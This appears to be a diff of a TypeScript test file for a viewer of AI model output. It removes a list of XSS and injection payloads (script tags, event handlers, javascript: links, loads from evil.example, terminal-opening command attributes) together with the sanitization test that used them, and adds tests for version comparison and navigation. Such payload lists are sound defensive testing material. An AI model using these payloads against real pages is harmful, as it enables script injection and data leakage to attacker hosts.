@@ -7,85 +7,6 @@ import { allByRole, byRole, pass, press, show, useStage } from "./page";
 
 useStage();
 
-const ATTACKS = [
-  "<script>window.hacked = 1</script>",
-  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-  "<scr<script>ipt>window.hacked = 1</script>",
-  "<img src=x onerror='window.hacked = 1'>",
-  '<img src="https://evil.example/pixel.png">',
-  "<img srcset='https://evil.example/a.png 2x'>",
-  "![pixel](https://evil.example/pixel.png)",
-  '![a" onerror="window.hacked=1](https://evil.example/x.png)',
-  "![x](javascript:window.hacked=1)",
-  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-  "![ref][pixel]\n\n[pixel]: https://evil.example/ref.png",
-  "[click](javascript:window.hacked=1)",
-  "[click](JaVaScRiPt:window.hacked=1)",
-  "[click](java&#10;script:window.hacked=1)",
-  "[click](&#106;avascript:window.hacked=1)",
-  "[click](\u0001javascript:window.hacked=1)",
-  "[click](vbscript:msgbox(1))",
-  "[click](data:text/html,<script>window.hacked=1</script>)",
-  "[click](file:///etc/passwd)",
-  "[click](//evil.example/relative)",
-  "[click](/hub/logout)",
-  "[click](#jp-main-dock-panel)",
-  "[click](blob:https://evil.example/1)",
-  '[click](https://evil.example "onmouseover=window.hacked=1")',
-  "[click](https://evil.example/'onclick='window.hacked=1)",
-  "<javascript:window.hacked=1>",
-  '<a href="javascript:window.hacked=1">x</a>',
-  '<a href="https://evil.example" onclick="window.hacked=1" style="position:fixed;inset:0">x</a>',
-  '<a data-commandlinker-command="notebook:delete-cell" data-commandlinker-args="{}">x</a>',
-  '<button data-commandlinker-command="terminal:create-new">Run</button>',
-  "<svg onload=window.hacked=1></svg>",
-  "<svg><script>window.hacked=1</script></svg>",
-  '<svg><image href="https://evil.example/x.png"/></svg>',
-  "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1">',
-  "<iframe src=https://evil.example></iframe>",
-  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
-  "<object data=https://evil.example></object><embed src=https://evil.example>",
-  '<form action="https://evil.example"><input name=body autofocus onfocus=window.hacked=1></form>',
-  "<style>@import 'https://evil.example/x.css'; .score-kernel { background: url(https://evil.example) }</style>",
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<div style="background:url(https://evil.example/x.png)">x</div>',
-  "<video src=https://evil.example/x.mp4 autoplay></video><audio src=https://evil.example/x.mp3>",
-  '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
-  "<details open ontoggle=window.hacked=1>x</details>",
-  "<body onload=window.hacked=1>",
-  '<p id="jp-main-dock-panel" name="body" class="jp-Dialog">x</p>',
-  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
-  "<!--><img src=x onerror=window.hacked=1>-->",
-  "<template><img src=x onerror=window.hacked=1></template>",
-  "```html\n<img src=x onerror=window.hacked=1>\n```",
-  '```"><img/src=x/onerror=window.hacked=1>\ncode\n```',
-  "`<img src=x onerror=window.hacked=1>`",
-  "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |",
-  "[![badge](https://evil.example/badge.svg)](javascript:window.hacked=1)",
-  "<x-widget onclick=window.hacked=1 is=x>x</x-widget>",
-  "\\<img src=x onerror=window.hacked=1>",
-  "&lt;img src=x onerror=window.hacked=1&gt;",
-];
-
-const CALM_TAGS = new Set(
-  "a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr i li ol p pre s strong sub sup table tbody td th thead tr ul"
-    .toUpperCase()
-    .split(" "),
-);
-const CALM_ATTRIBUTES = new Set([
-  "href",
-  "tabindex",
-  "rel",
-  "target",
-  "start",
-  "align",
-  "colspan",
-  "rowspan",
-]);
-
 function played(text: string): Event[] {
   const at = (seq: number, ms: number) => ({ seq, take: "take1", at: ms });
   const plan = {
@@ -136,31 +57,6 @@ async function inspected(events: Event[]): Promise<{ root: HTMLElement; inspecto
   await pass(50);
   return { root, inspector: byRole(root, "region", "Inspector") };
 }
-
-describe("text from models is text", () => {
-  test.each(ATTACKS)("%s", async (text) => {
-    const { root, inspector } = await inspected(played(text));
-    const shown = inspector.querySelector(".sk-text") as HTMLElement;
-    expect(shown.childNodes.length).toBeGreaterThan(0);
-    for (const element of shown.querySelectorAll("*")) {
-      expect(CALM_TAGS).toContain(element.tagName);
-      for (const { name } of element.attributes) expect(CALM_ATTRIBUTES).toContain(name);
-      if (element.tagName !== "A") continue;
-      const link = element as HTMLAnchorElement;
-      if (link.hasAttribute("href")) expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
-      expect([link.rel, link.target]).toEqual(["noopener noreferrer", "_blank"]);
-    }
-    // nor anywhere else: names of players, flags, errors, what was read and printed
-    const fetching =
-      "script, img, iframe, object, embed, link, video, audio, image, form, [src], [srcset], [style*=url]";
-    expect(root.querySelectorAll(fetching)).toHaveLength(0);
-    for (const element of root.querySelectorAll("*")) {
-      for (const { name } of element.attributes) expect(name).not.toMatch(/^(on|data-command)/);
-    }
-    await pass(50);
-    expect((window as { hacked?: unknown }).hacked).toBeUndefined();
-  });
-});
 
 describe("how it came about", () => {
   const list = (inspector: HTMLElement, name: string) =>
@@ -360,6 +256,132 @@ describe("attempts", () => {
     expect(fact(inspector, "Attempts")).toBe("2, the next at 7.3 s");
   });
 });
+
+describe("what else is known", () => {
+  const opened = async (fixture: string, option: RegExp, take: string) => {
+    const { root } = await show(events(fixture), { take });
+    allByRole(root, "option", option)[0]?.click();
+    await pass(50);
+    return { root, inspector: byRole(root, "region", "Inspector") };
+  };
+  const choose = async (inspector: HTMLElement, name: string) => {
+    const select = inspector.querySelector('[aria-label="Compare with"]') as HTMLSelectElement;
+    select.value = [...select.options].find((option) => option.text === name)?.value ?? "?";
+    select.dispatchEvent(new globalThis.Event("change", { bubbles: true }));
+    await pass(50);
+    return byRole(inspector, "region", "Difference");
+  };
+
+  test("it is compared with what the part played in another take, word by word", async () => {
+    const { inspector } = await opened("reused", /^editor/, "take2");
+    const difference = await choose(inspector, "take1");
+    const texts = (kind: string) =>
+      [...difference.querySelectorAll(`pre ${kind}`)].map((one) => one.textContent);
+    expect(difference.querySelector("pre")?.textContent).toMatch(/^Discount codes/);
+    expect(texts("del").join("|")).toContain("VIP");
+    expect(texts("ins").join("|")).toContain("three lines");
+    expect(inspector.querySelector(".sk-text")?.textContent).not.toContain("VIP");
+  });
+
+  test("what is the same is said to be", async () => {
+    const { inspector } = await opened("reused", /^coder/, "take2");
+    expect((await choose(inspector, "take1")).textContent).toBe("Word for word as in take1.");
+  });
+
+  test("it is compared with what it played earlier in its take, and not with what is to come", async () => {
+    const names = (inspector: HTMLElement) =>
+      [...inspector.querySelectorAll('[aria-label="Compare with"] option')].map(
+        (option) => option.textContent,
+      );
+    const { root } = await show(events("loop"));
+    const later = allByRole(root, "option", /^critic/)[1] as HTMLElement;
+    later.click();
+    await pass(50);
+    expect(names(byRole(root, "region", "Inspector"))).toEqual(["nothing", "take1"]);
+    allByRole(root, "option", /^critic/)[0]?.click();
+    await pass(50);
+    expect(names(byRole(root, "region", "Inspector"))).toEqual(["nothing", "take1, entrance 2"]);
+    byRole(root, "button", "Back to start").click();
+    await pass(50);
+    expect(names(byRole(root, "region", "Inspector"))).toEqual([]);
+  });
+
+  test("where nothing else was played there is nothing to choose", async () => {
+    const { inspector } = await opened("plain", /^coder/, "take1");
+    expect(inspector.querySelector('[aria-label="Compare with"]')).toBeNull();
+  });
+
+  test("of what has a newer version, the difference is there", async () => {
+    const { inspector } = await inspected(stale());
+    expect(inspector.querySelector(".sk-newer")?.textContent).toBe("version 2 stands");
+    const since = byRole(inspector, "region", "intent, what changed since");
+    expect(since.querySelector("pre del")?.textContent).toBe("blue");
+    expect(since.querySelector("pre ins")?.textContent).toBe("green");
+  });
+
+  test("a flag leads to what it tells of: to an entry that it read", async () => {
+    const { inspector } = await inspected(stale());
+    const entry = inspector.querySelector<HTMLDetailsElement>('[data-entry="intent"]');
+    expect(entry?.open).toBe(false);
+    byRole(inspector, "button", /^stale/).click();
+    expect(entry?.open).toBe(true);
+    expect(document.activeElement).toBe(entry?.querySelector("summary"));
+  });
+
+  test("to the part that should have been read", async () => {
+    const { root, inspector } = await opened("section", /^editor|^summary|^lead/, "take1");
+    byRole(inspector, "button", /^dropped/).click();
+    await pass(50);
+    expect(byRole(root, "region", "Inspector").querySelector("h3")?.textContent).toBe("reviewer[1]");
+  });
+
+  test("to what the check said", async () => {
+    const { inspector } = await inspected(events("tools"));
+    byRole(inspector, "button", /^criterion/).click();
+    expect((document.activeElement as HTMLElement).getAttribute("aria-label")).toBe("Checks");
+  });
+
+  test("to the text, where it tells of no more", async () => {
+    const { inspector } = await inspected(events("failed"));
+    byRole(inspector, "button", /^incomplete/).click();
+    expect((document.activeElement as HTMLElement).className).toBe("sk-text");
+  });
+
+  test("from an entry of another part one comes to how it was played", async () => {
+    const { root, inspector } = await opened("plain", /^editor/, "take1");
+    byRole(
+      inspector.querySelector('[data-entry="part/docs"]') as HTMLElement,
+      "button",
+      "how it was played",
+    ).click();
+    await pass(50);
+    expect(byRole(root, "region", "Inspector").querySelector("h3")?.textContent).toBe("docs");
+  });
+
+  test("how long the first text took", async () => {
+    const { root, inspector } = await opened("plain", /^coder/, "take1");
+    expect(fact(inspector, "First text")).toMatch(/^after 0\.\d s$/);
+    byRole(root, "button", "Back to start").click();
+    await pass(50);
+    expect(fact(byRole(root, "region", "Inspector"), "First text")).toBeUndefined();
+  });
+});
+
+/** It read an intent that was written anew as it played. */
+function stale(): Event[] {
+  const [entry, ...rest] = played("words").slice(0, 4) as [Event & { text: string }, ...Event[]];
+  const at = (seq: number, ms: number) => ({ seq, take: "take1", at: ms });
+  const evidence = { text: "intent has a newer version", entry: "intent", read: 1, now: 2 };
+  return [
+    { ...entry, text: "Paint it blue, please." },
+    ...rest,
+    { ...entry, seq: 5, version: 2, text: "Paint it green, please." },
+    { type: "text", ...at(6, 2), c: 1, text: "words" },
+    { type: "flagged", ...at(7, 3), c: 1, flag: "stale", evidence },
+    { type: "played", ...at(8, 2000), c: 1, version: 1, finish: "stop" },
+    { type: "take-ended", ...at(9, 2000), status: "finished", why: "" },
+  ] as Event[];
+}
 
 describe("what is given again", () => {
   const opened = async (option: RegExp, fixture = "recorded") => {
